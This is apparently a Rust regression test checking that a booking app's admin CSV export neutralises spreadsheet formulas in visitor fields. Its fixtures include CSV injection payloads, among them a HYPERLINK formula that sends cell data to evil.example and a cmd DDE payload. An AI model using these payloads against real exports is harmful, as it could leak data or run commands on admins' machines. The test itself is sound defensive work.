//! CSV injection: a visitor's name, company or address that starts a spreadsheet formula reached
//! `GET /admin/api/meetings.csv` as-is, and Excel ran `=HYPERLINK(…)` / `+cmd|…` when an admin opened it.
//! Every such cell now starts with `'`, followed by the visitor's text unchanged.

use serde_json::{json, Value};

use crate::support::*;

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The CSV export as records, the header row first.
async fn csv_rows(app: &TestApp) -> Vec<Vec<String>> {
    let r = app.get("/admin/api/meetings.csv", ADMIN).await;
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let body = r.text().await.unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn formulas_in_visitor_text_reach_the_csv_as_text() {
    let app = spawn_app().await;
    app.create_team("solo", json!({})).await;
    app.create_agent("Ann Smith", "Europe/Amsterdam", &["solo"])
        .await;
    // (email, name, company): what attackers typed into the chat. Names and companies are trimmed on
    // input, so the tab and CR ones arrive as the formula behind them.
    let visitors = [
        (
            "vera@example.com",
            r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
            "+cmd|' /C calc'!A0",
        ),
        ("=sum@example.com", "@SUM(1)", "-2+3"),
        ("tab@example.com", "\t=1+2", "\r\n@cmd"),
        ("plain@example.com", "Olga Ordinary", "Acme, Inc."),
    ];
    for (i, (email, name, company)) in visitors.iter().enumerate() {
        let start = format!("2026-11-23T{:02}:00:00Z", 9 + i);
        let mut body = booking_body("solo", &start, email);
        body["visitor"]["name"] = json!(name);
        body["visitor"]["company"] = json!(company);
        let r = app.book_with_key(&format!("csv-{i}"), &body).await;
        assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    }

    let rows = csv_rows(&app).await;
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (email_col, name_col, company_col) =
        (col("lead_email"), col("lead_name"), col("lead_company"));
    assert_eq!(rows.len(), 1 + visitors.len());
    let row_of = |email: &str| -> &Vec<String> {
        let shown = rows[1..]
            .iter()
            .find(|r| r[email_col].trim_start_matches('\'') == email)
            .unwrap_or_else(|| panic!("no row for {email}: {rows:?}"));
        shown
    };

    // The two from the report, exactly.
    let vera = row_of("vera@example.com");
    assert_eq!(
        vera[name_col],
        r#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#
    );
    assert_eq!(vera[company_col], "'+cmd|' /C calc'!A0");
    let sum = row_of("=sum@example.com");
    assert_eq!(sum[email_col], "'=sum@example.com");
    assert_eq!(sum[name_col], "'@SUM(1)");
    assert_eq!(sum[company_col], "'-2+3");
    let tab = row_of("tab@example.com");
    assert_eq!(tab[name_col], "'=1+2");
    assert_eq!(tab[company_col], "'@cmd");
    // Ordinary text is untouched (a comma is the CSV writer's business, not a formula).
    let plain = row_of("plain@example.com");
    assert_eq!(plain[name_col], "Olga Ordinary");
    assert_eq!(plain[company_col], "Acme, Inc.");

    // Every cell of the file: none starts a formula, and each is the JSON report's value, with a `'` in
    // front exactly when that value would start one.
    let report: Value = app.meetings("limit=500").await;
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {row:?}");
        }
    }
    for m in report["meetings"].as_array().unwrap() {
        let email = m["lead_email"].as_str().unwrap();
        let row = row_of(email);
        for (field, idx) in [
            ("lead_email", email_col),
            ("lead_name", name_col),
            ("lead_company", company_col),
        ] {
            let stored = m[field].as_str().unwrap_or_default();
            let expected = if stored.starts_with(FORMULA_STARTS) {
                format!("'{stored}")
            } else {
                stored.to_owned()
            };
            assert_eq!(row[idx], expected, "{field} of {email}");
        }
        assert_eq!(row[col("start")], m["start"].as_str().unwrap());
        assert_eq!(row[col("id")], m["id"].as_str().unwrap());
    }
}
